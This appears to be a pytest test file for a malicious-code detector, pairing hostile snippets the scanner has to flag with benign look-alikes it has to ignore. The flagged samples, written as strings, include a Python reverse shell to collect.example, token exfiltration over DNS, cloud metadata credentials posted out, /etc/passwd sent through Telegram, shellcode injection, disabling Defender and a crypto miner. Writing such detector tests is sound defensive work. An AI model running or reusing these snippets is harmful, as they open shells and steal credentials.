@@ -1,0 +1,131 @@
+"""Signs of malice that are told of code by itself: each in some spellings, and the honest code beside it."""
+
+from __future__ import annotations
+
+from fnmatch import fnmatchcase
+
+import pytest
+
+from fimci import readers
+from fimci.model import Capability
+
+_HIDDEN = "obfuscation hidden name"
+_SHELLCODE = "encoded-payload machine code -> *"
+
+
+def told(path: str, text: str) -> set[str]:
+    data = text.encode()
+    found = (r for reader in readers.ALL if reader.wants(path, data) for r in reader.read(path, data))
+    return {f"{one.name} {one.subject}" for one in found if isinstance(one, Capability)}
+
+
+@pytest.mark.parametrize(
+    ("path", "text", "wanted"),
+    [
+        ("a.js", "const m = 'child' + '_process'; require(m)['ex' + 'ec']('id');", _HIDDEN),
+        ("a.js", "globalThis['ev' + 'al'](name);", _HIDDEN),
+        ("a.py", "getattr(__import__('o' + 's'), 'sys' + 'tem')('id')", _HIDDEN),
+        ("a.py", "import importlib\nimportlib.import_module('subpro' + 'cess').call('id')", _HIDDEN),
+        ("a.js", "eval(\"require('child_process').exec('id')\");", "shell id"),
+        ("a.js", "setTimeout(\"require('child_process').exec('id')\", 10);", "shell id"),
+        ("a.js", "new Function('a', \"return require('child_process').exec('id')\")();", "shell id"),
+        ("a.js", "require('vm').runInNewContext(\"require('child_process').exec('id')\");", "shell id"),
+        (
+            "a.py",
+            (
+                "import ctypes\nk = ctypes.windll.kernel32\np = k.VirtualAlloc(0, 9, 0x3000, 0x40)\n"
+                "k.RtlMoveMemory(p, b, 9)\nk.CreateThread(0, 0, p, 0, 0, 0)"
+            ),
+            _SHELLCODE,
+        ),
+        (
+            "a.py",
+            (
+                "from ctypes import WinDLL\nk = WinDLL('kernel32')\nk.WriteProcessMemory(h, p, b, 9, 0)\n"
+                "k.CreateRemoteThread(h, 0, 0, p, 0, 0, 0)"
+            ),
+            _SHELLCODE,
+        ),
+        ("a.py", "import mmap\nm = mmap.mmap(-1, 4096, prot=mmap.PROT_WRITE | mmap.PROT_EXEC)", _SHELLCODE),
+        ("a.py", "import mmap\nm = mmap.mmap(-1, 4096, mmap.MAP_PRIVATE, 7)", _SHELLCODE),
+        ("a.py", "from pytransform import pyarmor_runtime\npyarmor_runtime()", "obfuscation protector"),
+        ("a.py", "__pyarmor__(__name__, __file__, b'PYARMOR')", "obfuscation protector"),
+        (
+            "a.py",
+            (
+                "import socket, pty, os\ns = socket.socket()\ns.connect(('collect.example', 4444))\n"
+                "[os.dup2(s.fileno(), n) for n in (0, 1, 2)]\npty.spawn('/bin/bash')"
+            ),
+            "download-and-run collect.example -> shell",
+        ),
+        (
+            "a.py",
+            "import socket, os\nsocket.gethostbyname(os.environ['NPM_TOKEN'] + '.collect.example')",
+            "exfiltration secret -> *.collect.example",
+        ),
+        (
+            "a.py",
+            (
+                "import requests\nr = requests.get('http://169.254.169.254/latest/meta-data/iam/')\n"
+                "requests.post('https://collect.example/', data=r.text)"
+            ),
+            "exfiltration cloud credentials -> collect.example",
+        ),
+        (
+            "a.js",
+            (
+                "fetch('http://169.254.169.254/latest/meta-data/').then(r => r.text())"
+                ".then(t => fetch('https://collect.example/', { method: 'POST', body: t }));"
+            ),
+            "exfiltration cloud credentials -> collect.example",
+        ),
+        (
+            "a.py",
+            (
+                "import requests\nrequests.get('https://api.telegram.org/bot1:A/sendMessage',"
+                " params={'text': open('/etc/passwd').read()})"
+            ),
+            "exfiltration private file -> api.telegram.org",
+        ),
+        (
+            "a.py",
+            "import os\nos.system('powershell Set-MpPreference -DisableRealtimeMonitoring 1')",
+            "process set-*",
+        ),
+        (
+            "a.py",
+            "import subprocess\nsubprocess.Popen('./xmrig -o pool.example:1', shell=True)",
+            "process xmrig",
+        ),
+    ],
+)
+def test_a_sign_is_told(path: str, text: str, wanted: str) -> None:
+    found = told(path, text)
+    assert any(fnmatchcase(one, wanted) for one in found), found
+
+
+@pytest.mark.parametrize(
+    ("path", "text", "unwanted"),
+    [
+        ("a.js", "const cp = require('child_process'); cp['exec']('id');", _HIDDEN),
+        ("a.py", "import os\ngetattr(os, 'system')('id')", _HIDDEN),
+        ("a.py", 'exec("""exec code in globs, locs""")', _HIDDEN),
+        ("a.py", "exec(\"import os; os.system('id')\")", _HIDDEN),
+        ("a.py", "import ctypes\nctypes.windll.kernel32.VirtualAlloc(0, 9, 0x3000, 4)", _SHELLCODE),
+        ("a.py", "import mmap\nm = mmap.mmap(-1, 4096, prot=mmap.PROT_READ)", _SHELLCODE),
+        ("a.py", "import mmap\nm = mmap.mmap(f.fileno(), 0, mmap.MAP_SHARED, 3)", _SHELLCODE),
+        ("a.py", "import socket\nsocket.gethostbyname(name)", "exfiltration *"),
+        (
+            "a.py",
+            (
+                "import requests\nrequests.get('http://169.254.169.254/latest/meta-data/placement/region')\n"
+                "requests.post('https://left.example/', data=mine)"
+            ),
+            "exfiltration *",
+        ),
+        ("a.js", "setTimeout(() => run('id'), 10);", "shell *"),
+    ],
+)
+def test_what_only_looks_like_it_is_not(path: str, text: str, unwanted: str) -> None:
+    found = told(path, text)
+    assert not any(fnmatchcase(one, unwanted) for one in found), found
